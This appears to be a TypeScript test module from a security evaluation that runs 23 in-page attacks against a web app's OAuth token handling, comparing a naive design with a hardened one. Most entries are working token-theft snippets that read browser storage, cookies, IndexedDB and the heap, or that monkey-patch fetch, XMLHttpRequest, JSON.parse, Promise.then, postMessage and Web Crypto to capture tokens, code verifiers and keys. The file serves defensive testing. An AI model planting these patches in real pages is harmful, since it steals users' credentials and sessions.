import { searchHeap } from '../../support/heap-search.ts';
import { openWithAnyKey, signWithAnyKey } from '../../support/storage-theft.ts';
import type { Attack } from '../attack.ts';
import type { Scene } from '../scene.ts';
import { sweepPage } from '../sweep.ts';
import { leaveToSignIn, passLoginPage, signIn } from '../visit.ts';

/** Makes the app use its token, and renew it, while the attacker watches. */
async function useApp({ tab, servers, site }: Scene): Promise<void> {
  await tab.evaluate(() => window.app.call('/me'));
  // The answer to this one is an error, which an app reports.
  await tab.evaluate(() => window.app.call('/reports'));
  if (site.name !== 'page' && site.name !== 'worker') {
    const answer = { status: 401, headers: { 'www-authenticate': 'Bearer error="invalid_token"' } };
    servers.api.faults.plan(({ path }) => path === '/api/me', { stage: 'before', answer });
  }
  await tab.evaluate(() => window.app.refresh());
}

/** An attack that reads something in the page. */
function reading(id: string, title: string, read: () => unknown): Attack {
  return {
    id,
    title,
    scenario: '5.1.1',
    naive: 'page',
    keepsPage: true,
    act: async ({ tab }) => ({ seen: await tab.evaluate(read) }),
  };
}

/** An attack that patches something before the app is there, and reads what has passed through it. */
function patching(id: string, title: string, patch: string): Attack {
  return {
    id,
    title,
    scenario: '5.1.2',
    naive: 'page',
    before: `window.caught = []; const caught = (...values) => { for (const value of values) window.caught.push(String(value)); };\n${patch}`,
    act: async (scene) => {
      await useApp(scene);
      return { seen: await scene.tab.evaluate((): unknown => Reflect.get(window, 'caught')) };
    },
  };
}

/** Runs in the page: asks for a token on the channels of the app, and listens until somebody says one, or the time is over. */
async function askOnChannels(timeoutMs: number): Promise<string> {
  const heard: unknown[] = [];
  const answered = new Promise((resolve) => {
    for (const name of ['naive', 'tokenward']) {
      const channel = new BroadcastChannel(name);
      channel.addEventListener('message', ({ data }) => {
        heard.push(data);
        if (data?.access_token) resolve(undefined);
      });
      channel.postMessage('token?');
    }
  });
  await window.app.call('/me');
  await Promise.race([answered, new Promise((resolve) => setTimeout(resolve, timeoutMs))]);
  return JSON.stringify(heard);
}

async function signInAnew({ tab, site }: Scene): Promise<void> {
  await leaveToSignIn(tab);
  await passLoginPage(tab, site);
}

const NO_HEAP = 'gives no snapshot of the heap to its driver';

export const READING_ATTACKS: readonly Attack[] = [
  reading('L01', 'reads localStorage', () => JSON.stringify(localStorage)),
  reading('L02', 'reads sessionStorage', () => JSON.stringify(sessionStorage)),
  reading('L03', 'reads the cookies', () => document.cookie),
  reading('L04', 'reads window.name and the document', () => [
    window.name,
    atob(window.name),
    document.documentElement.outerHTML,
  ]),
  reading('L05', 'reads the state of the history', () => JSON.stringify(history.state)),
  reading('L06', 'reads performance entries', () => JSON.stringify(performance.getEntries())),
  reading('L07', 'reads the names of locks', async () => JSON.stringify(await navigator.locks.query())),
  reading('L08', 'reads cached requests with their headers', async () => {
    await window.app.call('/me');
    const seen: string[] = [];
    for (const name of await caches.keys()) {
      for (const request of await (await caches.open(name)).keys()) seen.push([...request.headers].join());
    }
    return seen;
  }),
  reading('L09', 'reads every value in IndexedDB', async () => {
    const settle = <T>(request: IDBRequest<T>): Promise<T> =>
      new Promise((resolve) => {
        request.onsuccess = () => resolve(request.result);
      });
    const seen: string[] = [];
    for (const { name = '' } of await indexedDB.databases()) {
      const database = await settle(indexedDB.open(name));
      for (const store of database.objectStoreNames) {
        seen.push(JSON.stringify(await settle(database.transaction(store).objectStore(store).getAll())));
      }
      database.close();
    }
    return seen;
  }),
  {
    ...reading('L10', 'reads files of the origin private file system', async () => {
      const seen: string[] = [];
      if (!Reflect.has(Object(navigator.storage), 'getDirectory')) return seen;
      const root = await navigator.storage.getDirectory();
      for await (const handle of root.values()) {
        if (handle instanceof FileSystemFileHandle) seen.push(await (await handle.getFile()).text());
      }
      return seen;
    }),
    notIn: { webkit: 'has no origin private file system' },
  },
  {
    id: 'L11',
    title: 'asks for a token on a broadcast channel',
    scenario: '5.1.1',
    naive: 'page',
    keepsPage: true,
    act: async ({ tab, timeoutMs }) => ({ seen: await tab.evaluate(askOnChannels, timeoutMs) }),
  },
  reading('L12', 'walks through everything that can be reached from window', sweepPage),
  {
    id: 'L13',
    title: 'decrypts the stored records with every stored key handle',
    scenario: '5.1.1',
    naive: 'page',
    keepsPage: true,
    act: async ({ tab }) => ({ seen: await openWithAnyKey(tab) }),
  },
  {
    id: 'L14',
    title: 'signs a proof of its own with a stored key handle',
    scenario: '5.1.2',
    naive: 'page',
    tokenward: 'dpop',
    act: async ({ tab }) => ({ reached: (await signWithAnyKey(tab)) > 0 }),
  },
  {
    id: 'L15',
    title: 'takes a snapshot of the heap after sign-in, calls and a refresh',
    scenario: '5.1.1',
    naive: 'page',
    notIn: { firefox: NO_HEAP, webkit: NO_HEAP },
    act: async (scene) => {
      await useApp(scene);
      const { page } = scene.tab;
      if (!page) return { reached: false };
      const { found } = await searchHeap(page, scene.servers.authorizationServer.issued.all());
      return { reached: found.length > 0 };
    },
  },
  patching(
    'L16',
    'patches fetch() and reads the headers of each request',
    `const send = window.fetch;
    window.fetch = (input, init) => {
      const request = new Request(input, init);
      caught([...request.headers].join());
      return send(input, init);
    };`,
  ),
  patching(
    'L17',
    'patches Request, Headers and XMLHttpRequest and reads their values',
    `for (const [prototype, name] of [[Headers.prototype, 'set'], [Headers.prototype, 'append'], [XMLHttpRequest.prototype, 'setRequestHeader'], [XMLHttpRequest.prototype, 'open']]) {
      const original = prototype[name];
      prototype[name] = function (...values) { caught(...values); return original.apply(this, values); };
    }
    window.Request = class extends Request { constructor(input, init) { super(input, init); caught([...this.headers].join()); } };`,
  ),
  patching(
    'L18',
    'patches the parsing of responses and reads each of them',
    `const parse = JSON.parse;
    JSON.parse = (text, reviver) => { caught(text); return parse(text, reviver); };
    const { text } = Response.prototype;
    for (const name of ['json', 'text', 'arrayBuffer', 'blob']) {
      const original = Response.prototype[name];
      Response.prototype[name] = async function () { caught(await text.call(this.clone())); return original.call(this); };
    }`,
  ),
  patching(
    'L19',
    'patches promises and reads their results',
    `const then = Promise.prototype.then;
    Promise.prototype.then = function (done, failed) {
      return then.call(this, done && ((value) => {
        try { caught(JSON.stringify(value)); } catch { caught(value); }
        return done(value);
      }), failed);
    };`,
  ),
  patching(
    'L20',
    'reads the console, errors and their stacks',
    `for (const name of ['log', 'info', 'warn', 'error', 'debug']) console[name] = (...values) => caught(...values);
    window.addEventListener('error', ({ message, error }) => caught(message, error?.stack));
    window.addEventListener('unhandledrejection', ({ reason }) => caught(reason, reason?.stack));`,
  ),
  patching(
    'L21',
    'patches messages and reads those to and from workers',
    `for (const prototype of [ServiceWorker.prototype, MessagePort.prototype, BroadcastChannel.prototype]) {
      const post = prototype.postMessage;
      prototype.postMessage = function (message, ...rest) { caught(JSON.stringify(message)); return post.call(this, message, ...rest); };
    }
    const listen = EventTarget.prototype.addEventListener;
    EventTarget.prototype.addEventListener = function (type, listener, options) {
      if (type !== 'message' || typeof listener !== 'function') return listen.call(this, type, listener, options);
      return listen.call(this, type, function (event) { caught(JSON.stringify(event.data)); return listener.call(this, event); }, options);
    };`,
  ),
  {
    id: 'L22',
    title: 'patches cryptography before a sign-in and reads the code verifier',
    scenario: '5.1.2',
    naive: 'page',
    before: `const caught = (value) => localStorage.setItem('caught', (localStorage.getItem('caught') ?? '') + value);
    for (const name of ['digest', 'sign', 'encrypt', 'importKey', 'deriveBits']) {
      const original = SubtleCrypto.prototype[name];
      SubtleCrypto.prototype[name] = function (...values) {
        for (const value of values) if (ArrayBuffer.isView(value)) caught(new TextDecoder().decode(value));
        return original.apply(this, values);
      };
    }
    const random = Crypto.prototype.getRandomValues;
    Crypto.prototype.getRandomValues = function (array) {
      random.call(this, array);
      caught(btoa(String.fromCharCode(...array)));
      return array;
    };`,
    act: async (scene) => {
      await signInAnew(scene);
      return {
        seen: await scene.tab.evaluate(() => {
          const caught = localStorage.getItem('caught');
          localStorage.removeItem('caught');
          return caught;
        }),
      };
    },
  },
  {
    id: 'L23',
    title: 'reads the code in the history, the referrer and the entries of the navigation after a sign-in',
    scenario: '5.1.1',
    naive: 'page',
    act: async (scene) => {
      await signInAnew(scene);
      await signIn(scene.tab, scene.site);
      return {
        seen: await scene.tab.evaluate(() => {
          const entries: unknown = Reflect.get(Object(Reflect.get(window, 'navigation')), 'entries');
          const list: unknown =
            typeof entries === 'function' ? entries.call(Reflect.get(window, 'navigation')) : undefined;
          const urls = Array.isArray(list) ? list.map((entry) => String(Reflect.get(Object(entry), 'url'))) : [];
          return [...urls, document.referrer, location.href, JSON.stringify(performance.getEntries())];
        }),
      };
    },
  },
];
